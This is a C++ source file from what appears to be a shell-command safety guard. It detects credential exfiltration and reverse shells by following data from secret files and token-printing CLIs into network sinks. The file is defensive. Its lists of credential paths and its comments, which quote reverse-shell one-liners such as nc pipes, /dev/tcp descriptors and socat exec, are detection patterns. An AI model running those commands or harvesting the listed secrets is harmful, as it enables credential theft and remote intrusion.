// Data leaving the machine: data read from a credential path (keys, ~/.ssh, ~/.aws, .netrc,
// .env, $TALARIA_HOME, /etc/shadow, /proc/*/environ, the environment itself) followed through
// pipes, files written and read again, variables and $( ) / backticks into a network sink
// (curl, wget, nc, socat, scp, rsync to a host, openssl s_client, gh gist, ssh, DNS tools,
// /dev/tcp, ...); and reverse shells (a shell or interpreter wired to a socket, nc -e, socat
// exec:, awk's /inet/). The flow is computed once per parsed script; rules ask per command.
#include <algorithm>
#include <array>
#include <bitset>
#include <cctype>
#include <string>
#include <vector>

#include "guard/guard_internal.h"
#include "talaria/confinement/path_rules.h"

namespace talaria::safety::guard {
namespace {

constexpr std::array<std::string_view, 16> kCredentialHomeDirs = {
    ".ssh",         ".aws",    ".gnupg",  ".kube",
    ".docker",      ".azure",  ".gcloud", ".password-store",
    ".vault-token", ".netrc",  ".pgpass", ".git-credentials",
    ".npmrc",       ".pypirc", ".my.cnf", ".bash_history"};

bool IsSocketPath(std::string_view t) {
  return t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/");
}

bool NameLooksSecret(std::string_view base) {
  if (base.starts_with("id_rsa") || base.starts_with("id_ed25519") ||
      base.starts_with("id_ecdsa") || base.starts_with("id_dsa")) {
    return true;
  }
  if (base == ".env" || (base.starts_with(".env.") && !base.ends_with(".example") &&
                         !base.ends_with(".sample") && !base.ends_with(".template"))) {
    return true;
  }
  return base.ends_with(".pem") || base.ends_with(".key") || base.ends_with(".p12") ||
         base.ends_with(".pfx") || base.ends_with(".kdbx") || base == "credentials" ||
         base == "credentials.json" || base == "secrets.json" || base == ".netrc" ||
         base == ".git-credentials" || base == ".pgpass" || base == "shadow" || base == "gshadow" ||
         base == "environ";
}

// The path candidates an argument names: "x", "@x" (curl -d @x, --json @x), "k=@x" / "k=<x"
// (curl -F), "--opt=x".
void PathCandidates(std::string_view t, std::vector<std::string_view>& out) {
  out.clear();
  if (t.empty()) return;
  out.push_back(t);
  if (t.starts_with('@')) out.push_back(t.substr(1));
  const size_t eq = t.find('=');
  if (eq != std::string_view::npos && eq + 1 < t.size()) {
    std::string_view v = t.substr(eq + 1);
    if (v.starts_with('@') || v.starts_with('<')) v.remove_prefix(1);
    const size_t semi = v.find(';');
    if (semi != std::string_view::npos) v = v.substr(0, semi);
    out.push_back(v);
  }
}

bool CouldBePath(std::string_view t) {
  return t.find_first_of("/~.$@=") != std::string_view::npos || t == "credentials" ||
         t.starts_with("id_") || t == "shadow" || t == "environ";
}

bool WordIsCredential(const Judge& judge, const ShellWord& w,
                      std::vector<std::string_view>& scratch) {
  if (!CouldBePath(w.text)) return false;
  PathCandidates(w.text, scratch);
  for (std::string_view c : scratch) {
    const ResolvedPath p =
        judge.ResolveText(c, w.flags & (kWordTilde | kWordGlob | kWordExpansion));
    if (IsCredentialPath(judge, p)) return true;
    if (p.abs.empty() && !p.rel.empty()) {
      for (const std::string& cwd : judge.cwds()) {
        if (IsCredentialPath(judge, judge.ResolveText(cwd + "/" + p.rel, w.flags & kWordGlob))) {
          return true;
        }
      }
    }
  }
  return false;
}

// Variable names referenced as $NAME or ${NAME...} in `text`.
bool ReferencesAny(std::string_view text, const std::vector<std::string>& names) {
  for (const std::string& n : names) {
    size_t at = 0;
    while ((at = text.find(n, at)) != std::string_view::npos) {
      const bool dollar = (at >= 1 && text[at - 1] == '$') ||
                          (at >= 2 && text[at - 1] == '{' && text[at - 2] == '$');
      const size_t end = at + n.size();
      const bool bounded =
          end == text.size() ||
          !(std::isalnum(static_cast<unsigned char>(text[end])) || text[end] == '_');
      if (dollar && bounded) return true;
      at = end;
    }
  }
  return false;
}

// Files a command writes (to carry the taint on): redirections, tee's operands, the
// destination of cp/mv/install/ln, tar -f, zip's archive, -o/--output values.
void WrittenFiles(const SimpleCommand& c, std::vector<std::string>& out) {
  for (const Redirection& r : c.redirections) {
    if (r.Writes()) out.push_back(r.target.text);
  }
  if (c.argv.empty()) return;
  const std::string_view n = Basename(c.argv[0].text);
  std::vector<std::string_view> operands;
  for (size_t i = 1; i < c.argv.size(); ++i) {
    const std::string_view t = c.argv[i].text;
    if ((t == "-o" || t == "--output" || t == "-f" || t == "--file") && i + 1 < c.argv.size()) {
      out.push_back(c.argv[i + 1].text);
    } else if (n == "tar" && t.size() >= 2 && t[0] != '-'
                   ? (i == 1 && t.back() == 'f')
                   : (t.size() > 2 && t[0] == '-' && t[1] != '-' && t.back() == 'f' &&
                      n == "tar")) {
      if (i + 1 < c.argv.size()) out.push_back(c.argv[i + 1].text);  // tar -czf OUT, tar czf OUT
    }
    if (!IsOption(t)) operands.push_back(t);
  }
  if (n == "tee") {
    for (std::string_view o : operands) out.emplace_back(o);
  } else if ((n == "cp" || n == "mv" || n == "install" || n == "ln" || n == "rsync") &&
             operands.size() >= 2) {
    out.emplace_back(operands.back());
  } else if ((n == "zip" || n == "7z") && !operands.empty()) {
    out.emplace_back(operands.front() == "a" && operands.size() > 1 ? operands[1]
                                                                    : operands.front());
  }
}

// Descriptors 0..255 (bash's own go up to 255 and beyond; past that is not tracked).
using FdSet = std::bitset<256>;

// The descriptor a `<&N` / `>&N-` target or a /dev/fd/N, /proc/self/fd/N path names; -1 when
// none (or past 255).
int FdNumber(std::string_view t) {
  for (std::string_view prefix : {"/dev/fd/", "/proc/self/fd/", "/proc/$$/fd/"}) {
    if (t.starts_with(prefix)) {
      t.remove_prefix(prefix.size());
      break;
    }
  }
  if (t.ends_with('-')) t.remove_suffix(1);
  if (t.empty() || t.size() > 3) return -1;
  int fd = 0;
  for (const char c : t) {
    if (c < '0' || c > '9') return -1;
    fd = fd * 10 + (c - '0');
  }
  return fd < 256 ? fd : -1;
}

bool HasFd(const FdSet& fds, int fd) {
  return fd >= 0 && fd < 256 && fds.test(static_cast<size_t>(fd));
}
void AddFd(FdSet& fds, int fd) {
  if (fd >= 0 && fd < 256) fds.set(static_cast<size_t>(fd));
}

// Descriptors of `script` opened on something `opens` accepts (`exec 3< ~/.ssh/id_rsa`,
// `exec 5<>/dev/tcp/h/p`, `{ ...; } 3<key`), and their duplicates (`exec 4<&3`). Where in the
// line they are opened is not tracked: any of them may be open for any command.
template <typename Opens>
FdSet OpenedFds(const ParsedScript& script, Opens&& opens) {
  FdSet fds;
  for (const SimpleCommand& c : script.commands) {
    for (const Redirection& r : c.redirections) {
      if (r.fd >= 0 && !r.IsFdTarget() && r.op != RedirectOp::kHeredoc &&
          r.op != RedirectOp::kHereString && opens(r)) {
        AddFd(fds, r.fd);
      }
    }
  }
  for (int pass = 0; pass < 2 && fds.any(); ++pass) {
    for (const SimpleCommand& c : script.commands) {
      for (const Redirection& r : c.redirections) {
        if (r.fd >= 0 && r.IsFdTarget() && HasFd(fds, FdNumber(r.target.text))) {
          AddFd(fds, r.fd);
        }
      }
    }
  }
  return fds;
}

// Does `c` read or write one of `fds` (`<&3`, `>&3`, `2>&3`, /dev/fd/3 as an operand,
// read -u 3)?
bool UsesFd(const SimpleCommand& c, const FdSet& fds) {
  for (const Redirection& r : c.redirections) {
    if (r.IsFdTarget() && HasFd(fds, FdNumber(r.target.text))) return true;
  }
  const bool reads_fd =
      !c.argv.empty() &&
      (c.argv[0].text == "read" || c.argv[0].text == "mapfile" || c.argv[0].text == "readarray");
  for (size_t k = 1; k < c.argv.size(); ++k) {
    const std::string_view t = c.argv[k].text;
    if (t.starts_with("/dev/fd/") || t.starts_with("/proc/")) {
      if (HasFd(fds, FdNumber(t))) return true;
    } else if (reads_fd && t.starts_with("-") && !t.starts_with("--") && t.back() != 'u' &&
               t.find('u') != std::string_view::npos) {
      if (HasFd(fds, FdNumber(t.substr(t.find('u') + 1)))) return true;  // -u3
    } else if (reads_fd && t.starts_with("-") && !t.starts_with("--") && t.back() == 'u' &&
               k + 1 < c.argv.size()) {
      if (HasFd(fds, FdNumber(c.argv[k + 1].text))) return true;  // -u 3, -ru 3
    }
  }
  return false;
}

// Commands that print a secret held somewhere other than a file the guard can name: secret
// keys exported, password stores and keyrings, the tokens of CLIs (gh, cloud, kubectl).
bool PrintsSecret(const SimpleCommand& c) {
  if (c.argv.empty()) return false;
  auto has = [&](std::string_view word) {
    for (size_t i = 1; i < c.argv.size() && i < 12; ++i) {
      if (c.argv[i].text == word) return true;
    }
    return false;
  };
  for (size_t i = 0; i < c.argv.size() && i < 4; ++i) {  // past sudo, env, timeout 5, ...
    const std::string_view n = Basename(c.argv[i].text);
    if (n == "gpg" || n == "gpg2") {
      for (const ShellWord& w : c.argv) {
        if (w.text.starts_with("--export-secret")) return true;
      }
    } else if (n == "pass" || n == "gopass") {
      return c.argv.size() > i + 1 && (has("show") || !IsOption(c.argv[i + 1].text));
    } else if (n == "gh" || n == "glab") {
      return has("auth") && (has("token") || (has("status") && has("--show-token")));
    } else if (n == "git") {
      return has("credential") && has("fill");
    } else if (n == "aws") {
      return (has("configure") && (has("get") || has("export-credentials"))) ||
             has("get-session-token") || has("get-login-password") || has("get-secret-value");
    } else if (n == "gcloud") {
      return has("print-access-token") || has("print-identity-token");
    } else if (n == "az") {
      return has("get-access-token") || (has("keyvault") && has("show"));
    } else if (n == "kubectl") {
      return (has("config") && has("view") && has("--raw")) ||
             (has("get") && (has("secret") || has("secrets")) &&
              (has("-o") || has("-oyaml") || has("-ojson")));
    } else if (n == "secret-tool") {
      return has("lookup");
    } else if (n == "security") {
      return has("find-generic-password") || has("find-internet-password");
    } else if (n == "vault") {
      return has("read") || has("kv") || has("token");
    } else if (n == "op") {
      return has("read") || (has("item") && has("get"));
    } else if (n == "keyring") {
      return has("get");
    } else if (n.starts_with("docker-credential-")) {
      return has("get");
    }
  }
  return false;
}

// A file server started by `c` (python -m http.server, php -S): the directories it publishes,
// "." for the one it runs in. Empty when `c` is not one.
std::vector<std::string_view> ServedDirectories(const SimpleCommand& c,
                                                const ParsedScript& script) {
  std::vector<std::string_view> dirs;
  bool server = false;
  bool php = false;
  for (size_t i = 0; i < c.argv.size() && i < 12; ++i) {
    const std::string_view t = c.argv[i].text;
    const uint32_t traits = ProgramTraits(Basename(t));
    server = server || (traits & kTraitServerModule) != 0;
    php = php || (i < 4 && Basename(t).starts_with("php"));
  }
  for (size_t i = 1; i < c.argv.size(); ++i) {
    const std::string_view t = c.argv[i].text;
    if (php && t == "-S") server = true;
    const bool dir_flag = php ? t == "-t" : (t == "-d" || t == "--directory");
    if (dir_flag && i + 1 < c.argv.size()) {
      dirs.push_back(c.argv[i + 1].text);
    } else if (!php && t.starts_with("--directory=")) {
      dirs.push_back(t.substr(12));
    }
  }
  if (!server) return {};
  if (dirs.empty()) {
    dirs.push_back(".");
    for (const SimpleCommand& cd : script.commands) {  // cd DIR anywhere in the line
      if (cd.argv.size() == 2 && (cd.argv[0].text == "cd" || cd.argv[0].text == "pushd")) {
        dirs.push_back(cd.argv[1].text);
      }
    }
  }
  return dirs;
}

// Is `file` (as written) inside `dir` (as written)?
bool InsideDirectory(std::string_view file, std::string_view dir) {
  while (file.starts_with("./")) file.remove_prefix(2);
  if (dir == "." || dir == "./") return !file.starts_with('/') && !file.starts_with('~');
  while (dir.ends_with('/') && dir.size() > 1) dir.remove_suffix(1);
  return file.starts_with(dir) && (file.size() == dir.size() || file[dir.size()] == '/');
}

// Could data leave the machine in this script: a sink, a socket, or a payload carrier?
bool ScriptHasSink(const ParsedScript& script) {
  for (const SimpleCommand& c : script.commands) {
    for (const Redirection& r : c.redirections) {
      if (IsSocketPath(r.target.text)) return true;
    }
    for (size_t i = 0; i < c.argv.size() && i < 12; ++i) {
      // A carrier of payloads counts: `cat key | bash -c 'curl -T - x'` leaks in the payload.
      if ((ProgramTraits(Basename(c.argv[i].text)) &
           (kTraitSink | kTraitServerModule | kTraitShell | kTraitInterpreter | kTraitPayload)) !=
          0) {
        return true;
      }
    }
  }
  return false;
}

}  // namespace

bool IsCredentialPath(const Judge& judge, const ResolvedPath& p) {
  if (p.in_talaria_home) return true;
  const std::string_view path = p.abs.empty() ? std::string_view(p.rel) : std::string_view(p.abs);
  if (path.empty()) return false;
  if (p.in_home) {
    const auto rest = internal::NormalizedComponents("/" + p.home_rest);
    if (!rest.empty()) {
      if (OneOf(std::string_view(rest[0]), kCredentialHomeDirs)) return true;
      if (rest.size() >= 2 && rest[0] == ".config" &&
          (rest[1] == "gh" || rest[1] == "gcloud" || rest[1] == "rclone" || rest[1] == "hub")) {
        return true;
      }
      if (rest.size() >= 3 && rest[0] == ".local" && rest[1] == "share" && rest[2] == "keyrings") {
        return true;
      }
    }
  }
  if (p.abs == "/etc/shadow" || p.abs == "/etc/gshadow" || p.abs == "/etc/sudoers" ||
      (p.abs.starts_with("/etc/ssh/") && p.abs.ends_with("_key")) ||
      (p.abs.starts_with("/proc/") && p.abs.ends_with("/environ"))) {
    return true;
  }
  size_t start = 0;
  while (start < path.size()) {
    size_t end = path.find('/', start);
    if (end == std::string_view::npos) end = path.size();
    if (path.substr(start, end - start) == ".ssh") return true;
    start = end + 1;
  }
  (void)judge;
  return NameLooksSecret(Basename(path));
}

std::vector<bool> ComputeCredentialFlow(const Judge& judge, const ParsedScript& script,
                                        bool inherited) {
  const size_t n = script.commands.size();
  if (n == 0 || !ScriptHasSink(script)) return {};  // Judge::Tainted: nothing is
  std::vector<bool> taint(n, inherited);
  std::vector<std::string_view> scratch;
  // Direct reads: an operand or an input redirection naming a credential path; the
  // environment dumped (env, printenv, set).
  for (size_t i = 0; i < n; ++i) {
    const SimpleCommand& c = script.commands[i];
    if (!c.argv.empty()) {
      const std::string_view name = Basename(c.argv[0].text);
      if ((name == "env" || name == "printenv") && c.argv.size() <= 2) taint[i] = true;
      if (!taint[i] && PrintsSecret(c)) taint[i] = true;
    }
    for (size_t k = 1; k < c.argv.size() && !taint[i]; ++k) {
      taint[i] = WordIsCredential(judge, c.argv[k], scratch);
    }
    for (const ShellWord& a : c.assignments) {
      if (taint[i]) break;
      const size_t eq = a.text.find('=');
      if (eq != std::string::npos) {
        taint[i] = WordIsCredential(judge, ShellWord{a.text.substr(eq + 1), a.flags}, scratch);
      }
    }
    for (const Redirection& r : c.redirections) {
      if (taint[i]) break;
      if (r.op == RedirectOp::kIn || r.op == RedirectOp::kInOut) {
        taint[i] = WordIsCredential(judge, r.target, scratch);
      }
    }
  }
  // A compound reading a credential on stdin (`while read l; do ...; done < ~/.ssh/id_rsa`):
  // its redirections come as an entry without argv after its inner commands, which were
  // parsed after it took its pipeline id, so theirs are larger.
  for (size_t i = 0; i < n; ++i) {
    const SimpleCommand& c = script.commands[i];
    if (!c.argv.empty() || !taint[i]) continue;
    bool stdin_credential = false;
    for (const Redirection& r : c.redirections) {
      stdin_credential =
          stdin_credential || ((r.fd == -1 || r.fd == 0) && r.op == RedirectOp::kIn &&
                               WordIsCredential(judge, r.target, scratch));
    }
    if (!stdin_credential) continue;
    for (size_t k = 0; k < i; ++k) {
      if (script.commands[k].pipeline > c.pipeline) taint[k] = true;
    }
  }
  // Reads through a descriptor opened on a credential path earlier (`exec 3< ~/.ssh/id_rsa;
  // cat <&3`).
  const FdSet credential_fds = OpenedFds(script, [&](const Redirection& r) {
    return (r.op == RedirectOp::kIn || r.op == RedirectOp::kInOut) &&
           WordIsCredential(judge, r.target, scratch);
  });
  if (credential_fds.any()) {
    for (size_t i = 0; i < n; ++i) {
      if (!taint[i]) taint[i] = UsesFd(script.commands[i], credential_fds);
    }
  }
  // Propagation to a fixed point: pipes, substitutions into their command, files written and
  // read again later in the line, variables assigned and expanded later.
  std::vector<std::string> files;
  std::vector<std::string> vars;
  for (int pass = 0; pass < 4; ++pass) {
    bool changed = false;
    for (size_t i = 0; i < n; ++i) {
      const SimpleCommand& c = script.commands[i];
      bool t = taint[i];
      if (!t && c.stdin_piped) {
        // From the same pipeline, or (inside a compound at a pipe's end, whose commands form
        // pipelines of their own) from any tainted command that pipes into something.
        bool same_pipeline = false;
        for (size_t k = 0; k < i && !t; ++k) {
          const SimpleCommand& up = script.commands[k];
          const bool before = up.pipeline == c.pipeline && up.pipe_pos < c.pipe_pos;
          same_pipeline = same_pipeline || before;
          t = taint[k] && before;
        }
        for (size_t k = 0; k < i && !t && !same_pipeline; ++k) {
          t = taint[k] && script.commands[k].in_pipeline;
        }
      }
      if (!t && !files.empty()) {
        // As an operand, @file, k=@file, --opt=file (PathCandidates), "./" or not.
        for (const ShellWord& w : c.argv) {
          if (t) break;
          PathCandidates(w.text, scratch);
          for (std::string_view cand : scratch) {
            while (cand.starts_with("./")) cand.remove_prefix(2);
            for (std::string_view f : files) {
              while (f.starts_with("./")) f.remove_prefix(2);
              t = t || cand == f;
            }
          }
        }
        for (const Redirection& r : c.redirections) {
          if (r.op != RedirectOp::kIn) continue;
          for (const std::string& f : files) t = t || r.target.text == f;
        }
      }
      if (!t && !files.empty()) {
        // A file server publishing a directory a credential was written into.
        for (std::string_view dir : ServedDirectories(c, script)) {
          for (std::string_view f : files) t = t || InsideDirectory(f, dir);
        }
      }
      if (!t && !vars.empty()) {
        for (const ShellWord& w : c.argv)
          t = t || (w.Has(kWordExpansion) && ReferencesAny(w.text, vars));
        for (const Redirection& r : c.redirections) {
          t = t || ((r.op == RedirectOp::kHereString && ReferencesAny(r.target.text, vars)) ||
                    (r.op == RedirectOp::kHeredoc && r.heredoc_expands &&
                     ReferencesAny(r.heredoc_body, vars)));
        }
      }
      if (t && !taint[i]) {
        taint[i] = true;
        changed = true;
      }
      if (!taint[i]) continue;
      // What a tainted command carries on: its parent command (a substitution's output is
      // the parent's word), the files it writes, the variables it sets.
      if (c.parent >= 0 && static_cast<size_t>(c.parent) < n &&
          !taint[static_cast<size_t>(c.parent)]) {
        taint[static_cast<size_t>(c.parent)] = true;
        changed = true;
      }
      if (files.size() < 32) {
        std::vector<std::string> written;
        WrittenFiles(c, written);
        for (std::string& f : written) {
          if (std::find(files.begin(), files.end(), f) == files.end()) {
            files.push_back(std::move(f));
            changed = true;
          }
        }
      }
      auto note_var = [&](std::string_view assignment) {
        const size_t eq = assignment.find('=');
        if (eq == std::string_view::npos || eq == 0 || vars.size() >= 32) return;
        std::string name(assignment.substr(0, eq));
        if (name.ends_with('+')) name.pop_back();
        if (std::find(vars.begin(), vars.end(), name) == vars.end()) {
          vars.push_back(std::move(name));
          changed = true;
        }
      };
      for (const ShellWord& a : c.assignments) note_var(a.text);
      if (!c.argv.empty()) {
        const std::string_view name = Basename(c.argv[0].text);
        if (name == "export" || name == "local" || name == "declare" || name == "readonly" ||
            name == "typeset") {
          for (size_t k = 1; k < c.argv.size(); ++k) note_var(c.argv[k].text);
        } else if (name == "read" || name == "mapfile" || name == "readarray") {
          for (size_t k = 1; k < c.argv.size(); ++k) {
            if (!IsOption(c.argv[k].text)) note_var(c.argv[k].text + "=");
          }
        }
      }
    }
    if (!changed) break;
  }
  return taint;
}

void JudgeNetworkSinkRules(Judge& judge, const CommandView& v) {
  const std::string_view n = v.name;
  bool socket = false;
  if (v.cmd != nullptr) {
    bool dup = false;
    for (const Redirection& r : v.cmd->redirections) {
      socket = socket || IsSocketPath(r.target.text);
      dup = dup || r.IsFdTarget();
    }
    // A descriptor opened on a socket earlier (`exec 5<>/dev/tcp/h/p; sh <&5 >&5`).
    if (!socket && dup && v.script != nullptr) {
      socket = UsesFd(*v.cmd, OpenedFds(*v.script, [](const Redirection& r) {
        return IsSocketPath(r.target.text);
      }));
    }
  }
  // Reverse shells: a shell wired to a socket, netcat/socat running a program for the peer.
  if (socket && (v.traits & (kTraitShell | kTraitInterpreter)) != 0) {
    judge.Add("reverse_shell", "shell or interpreter connected to a network socket",
              GuardTier::kDangerous);
  }
  // A shell reading its program from stdin in a pipeline with a raw network connection (nc,
  // socat, telnet, openssl s_client) before or after it: `cat /tmp/f | sh -i 2>&1 | nc h 1 >
  // /tmp/f`, `telnet h 1 | sh | telnet h 2`, `telnet h 1 < /tmp/p | bash > /tmp/p`.
  if ((v.traits & kTraitShell) != 0 && v.cmd != nullptr && v.script != nullptr &&
      v.cmd->in_pipeline && !socket) {
    bool reads_program = true;
    for (const ShellWord* w : v.args) {
      if (!IsOption(w->text) || ShortFlagsContain(w->text, 'c')) reads_program = false;
    }
    bool into_network = false;
    for (const SimpleCommand& c : v.script->commands) {
      if (!reads_program || into_network) break;
      if (c.pipeline != v.cmd->pipeline || c.pipe_pos == v.cmd->pipe_pos) continue;
      for (size_t i = 0; i < c.argv.size() && i < 8; ++i) {
        const std::string_view b = Basename(c.argv[i].text);
        into_network = into_network || (ProgramTraits(b) & kTraitSinkName) != 0 || b == "telnet" ||
                       b == "openssl";
      }
    }
    if (into_network) {
      judge.Add("reverse_shell", "shell or interpreter connected to a network socket",
                GuardTier::kDangerous);
    }
  }
  if ((v.traits & kTraitSinkName) == 0) {
    // no program-specific reverse-shell options
  } else if (n == "nc" || n == "ncat" || n == "netcat") {
    for (const ShellWord* w : v.args) {
      const std::string_view t = w->text;
      if (ShortFlagsContain(t, 'e') || ShortFlagsContain(t, 'c') || t.starts_with("--exec") ||
          t.starts_with("--sh-exec") || t.starts_with("--lua-exec")) {
        judge.Add("reverse_shell", "netcat running a program for the remote end",
                  GuardTier::kDangerous);
      }
    }
  } else if (n == "socat") {
    for (const ShellWord* w : v.args) {
      std::string lower(w->text);
      for (char& ch : lower) ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
      if (lower.find("exec:") != std::string::npos || lower.find("system:") != std::string::npos) {
        judge.Add("reverse_shell", "socat running a program for the remote end",
                  GuardTier::kDangerous);
      }
    }
  } else if (n == "awk" || n == "gawk") {
    for (const ShellWord* w : v.args) {
      if (w->text.find("/inet/") != std::string::npos) {
        judge.Add("reverse_shell", "awk opening a network connection", GuardTier::kDangerous);
      }
    }
  }
  // Only a command the flow marked can leak: skip the sink tests for every other one.
  if (!judge.Tainted(v.cmd)) return;
  bool sink = socket || (v.traits & kTraitSink) != 0 ||
              (std::any_of(v.args.begin(), v.args.end(),
                           [](const ShellWord* w) {
                             return w->text == "http.server" || w->text == "SimpleHTTPServer" ||
                                    w->text == "-S";
                           }) &&
               (IsInterpreter(n) || n == "php"));
  if (sink && (n == "rsync" || n == "scp" || n == "openssl")) {
    // Local copies and local crypto are not sinks: only a host:path operand, an rsync://
    // URL, or openssl's network clients.
    sink = false;
    for (const ShellWord* w : v.args) {
      const std::string_view t = w->text;
      const size_t colon = t.find(':');
      if (n == "openssl") {
        sink = sink || t == "s_client" || t == "-connect" || t == "s_time";
      } else if (!IsOption(t) && colon != std::string_view::npos && colon > 0 &&
                 t.substr(0, colon).find('/') == std::string_view::npos) {
        sink = true;
      }
    }
  }
  // `gh auth token`, `aws configure get ...` print the secret here; they are not its sink.
  if (sink && v.cmd != nullptr && PrintsSecret(*v.cmd)) sink = false;
  if (sink && judge.Tainted(v.cmd)) {
    judge.Add("credential_exfiltration", "data read from a credential file sent off the machine",
              GuardTier::kDangerous);
  }
}

}  // namespace talaria::safety::guard
